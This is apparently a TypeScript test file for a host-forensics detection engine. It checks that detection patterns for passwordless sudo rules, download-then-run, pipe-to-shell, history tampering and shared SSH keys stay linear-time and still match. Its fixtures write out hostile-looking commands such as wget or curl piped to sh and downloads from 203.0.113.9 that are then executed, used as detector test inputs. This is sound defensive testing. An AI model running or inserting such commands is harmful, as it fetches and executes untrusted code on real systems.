// Agent values built to make the engine's patterns backtrack, or to break it outside a detection's guard. Each
// case took seconds to days before its fix (measured in review); now each is one linear scan. A test that hangs
// here is a pattern gone exponential again (tap's timeout fails it).
import { test } from "tap";
import { knownAutomation } from "../../shared/engine/baselines/index.js";
import { buildGraph, SHARED_LINK_MAX_HOSTS } from "../../shared/engine/graph.js";
import { downloadThenRun, PIPE_TO_SHELL } from "../../shared/engine/detections/patterns.js";
import { nopasswdAll } from "../../shared/engine/detections/sudoers-nopasswd.js";
import { routeQuery, runInvestigation } from "../../shared/engine/index.js";
import { coverage, host, proc } from "./helpers.js";

test("sudoers: NOPASSWD lists are read item by item", async (t) => {
  t.notOk(nopasswdAll(`NOPASSWD:${", ".repeat(40)}x`), "40 empty items: no hit (was exponential: days)");
  const commands = Array.from({ length: 40 }, (_, i) => `/usr/bin/systemctl restart app${i}.service`).join(", ");
  t.notOk(nopasswdAll(`(root) NOPASSWD: ${commands}`), "an ordinary rule of 40 commands (22 took 2.5 s)");
  t.ok(nopasswdAll(`(root) NOPASSWD: ${commands}, ALL`), "ALL at the end of the list");
  t.ok(nopasswdAll("ALL=(ALL) NOPASSWD: /bin/ls, /bin/bash"), "a shell in the list");
  t.ok(nopasswdAll("ALL=(ALL:ALL) NOPASSWD:ALL"));
  t.notOk(nopasswdAll("ALL=(ALL) NOPASSWD: /bin/ls, /usr/bin/allure"), "ALL must be the whole item");
  t.notOk(nopasswdAll("ALL=(ALL) PASSWD: ALL"));
});

test("cron backup baselines: assignments and options match one way only", async (t) => {
  const cron = (command: string) => knownAutomation({ kind: "cron", path: "/var/spool/cron/crontabs/root", command });
  t.equal(cron(`${"a=b=c ".repeat(40)}curl`), undefined, "assignments with two '=' (was exponential: 10 s at 28)");
  t.equal(cron(`restic ${"-a ".repeat(60)}curl`), undefined, "options that could be values (5 s at 40)");
  t.equal(cron(`borg ${"-a ".repeat(60)}curl`), undefined);
  t.ok(cron("RESTIC_PASSWORD_FILE=/etc/restic.pw restic -r /srv/repo --exclude /tmp backup /home"), "a real restic line is still known");
  t.ok(cron("BORG_REPO=/srv/borg borg create --stats /srv/borg::{now} /etc"), "and borg");
  t.ok(cron("duplicity --no-encryption incremental /home file:///backup"), "and duplicity");
});

test("ansible and salt-ssh client lines: each piece one scan", async (t) => {
  const ssh = (cmdline: string) => knownAutomation({ kind: "ssh-client", cmdline });
  const half = (s: string) => s.repeat(Math.ceil(8192 / s.length)).slice(0, 8192);
  t.equal(ssh(half("ssh -oControlMaster=auto ") + half("-oControlPersist=1 ")), undefined, "16 KiB of near-misses (8 KiB took 9.6 s)");
  t.ok(ssh('ssh -C -o ControlMaster=auto -o ControlPersist=60s -o ControlPath="/home/deploy/.ansible/cp/abc123" 10.0.0.5 /bin/sh -c echo'), "a real ansible line");
  t.ok(ssh("ssh -i /etc/salt/pki/master/ssh/salt-ssh.rsa root@10.0.0.5 /bin/sh"), "a real salt-ssh line");
  t.notOk(ssh("ssh -i /etc/salt/pki/master/ssh/salt-ssh.rsa root@10.0.0.5"), "salt-ssh's key with no command: a login");
  t.equal(ssh(`ssh ${"-oIdentityFile=".repeat(4000)} 10.0.0.5 /bin/sh`), undefined, "60 KiB of repeated options, read in one pass");
});

test("download then run: a simple command at a time", async (t) => {
  t.notOk(downloadThenRun("curl -o x ".repeat(1638)), "16 KiB of downloads never run (11 s as one pattern)");
  t.notOk(downloadThenRun("curl ".repeat(3276)));
  t.ok(downloadThenRun("wget -O /tmp/a http://x/a && chmod +x /tmp/a && /tmp/a"));
  t.ok(downloadThenRun("curl -s -o /tmp/.k http://203.0.113.9/k; sh /tmp/.k"));
  t.ok(downloadThenRun("cd /tmp; curl --output b http://x/b && ./b"));
  t.notOk(downloadThenRun("curl -o report.html http://intranet/report"), "a download alone");
  t.notOk(downloadThenRun("curl http://x/a && chmod +x a"), "no output option: nothing written to run");
});

test("pipe to shell: a simple command at a time", async (t) => {
  t.notOk(PIPE_TO_SHELL.test("curl ".repeat(3276)), "16 KiB of curls and no pipe (330 ms as one pattern)");
  t.notOk(PIPE_TO_SHELL.test(`curl ${"| tee x ".repeat(2000)}`), "pipes that lead nowhere");
  t.ok(PIPE_TO_SHELL.test("curl -fsSL https://get.example.com/install.sh | sudo -E bash -"));
  t.ok(PIPE_TO_SHELL.test("wget -qO- http://203.0.113.9/x|sh"));
  t.ok(PIPE_TO_SHELL.test("cd /tmp; curl http://x/p.py | python3"));
  t.ok(PIPE_TO_SHELL.test("fetch -o - http://x/s | /usr/local/bin/bash"));
  t.notOk(PIPE_TO_SHELL.test("curl http://x/a | tee a | sh"), "the shell reads tee's output, as before");
  t.notOk(PIPE_TO_SHELL.test("curl http://x/a || sh fallback.sh"), "|| is no pipe");
});

test("one value that breaks String() does not fail the investigation", async (t) => {
  const plan = routeQuery("did anything download and run a script?", "standard");
  const hostile = host({ processes: [proc(7, "sh", "/bin/sh", "curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a", { uid: { toString: 1 } as never })], shell_history: [] }, {}, "h", "hostile");
  const r = runInvestigation(plan, [hostile], coverage(1), "standard");
  t.ok(r.findings.some((f) => f.detection_id === "download-execute"), "the finding is reported");
});

test("detections that group rows append in place: 100,000 rows of one agent under one key", async (t) => {
  // Copying the group's list on each row was quadratic: 30,000 rows took 5.5-6 s in each of these.
  const rows = (n: number, row: (i: number) => Record<string, unknown>) => Array.from({ length: n }, (_, i) => row(i) as never);
  const envs = host({ processes: [proc(7, "bash", "/usr/bin/bash", "bash")], process_envs: rows(100_000, (i) => ({ pid: String(i), key: "HISTSIZE", value: "0" })) }, {}, "e", "envs");
  const plan = routeQuery("has anyone tampered with shell history?", "standard");
  const r = runInvestigation(plan, [envs], coverage(1), "standard");
  t.ok(r.findings.some((f) => f.detection_id === "history-tampering"), "history-tampering groups 100,000 rows");
  const last = host({ last: rows(100_000, (i) => ({ username: "root", tty: `pts/${i}`, type: "7", time: String(1731990000 + i), host: "203.0.113.66" })) }, {}, "l", "logins");
  const logins = runInvestigation(routeQuery("did root log in remotely?", "standard"), [last], coverage(1), "standard");
  t.ok(logins.findings.length > 0, "remote-root-login groups 100,000 logins");
});

test("the entity graph: edges appended in place; a key shared fleet-wide links nobody", async (t) => {
  const many = host({ processes: Array.from({ length: 40_000 }, (_, i) => proc(i + 2, "w", "/x", "/x")) }, {}, "big", "big");
  const g = buildGraph([many]);
  t.equal(g.adjacency.get("host:big")?.length, 40_001, "every process on the host, and their one user (copying the list per edge took 37 s)");
  const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISharedDeployKey deploy@ci";
  const fleet = Array.from({ length: 400 }, (_, i) => host({ authorized_keys: i < 150 ? [{ uid: "0", key }] : [], users: [{ uid: "0", username: "root" }] }, {}, `a${i}`, `h${i}`));
  const linked = buildGraph(fleet);
  const sameKey = [...linked.adjacency.values()].flat().filter((e) => e.type === "same_ssh_key").length;
  t.equal(sameKey, 0, `150 hosts (over ${SHARED_LINK_MAX_HOSTS}) share the key: no clique of ${150 * 149} edges`);
  const few = buildGraph(fleet.slice(0, 3).concat(fleet.slice(150, 160)));
  t.ok([...few.adjacency.values()].flat().some((e) => e.type === "same_ssh_key"), "three hosts sharing it are still linked");
});
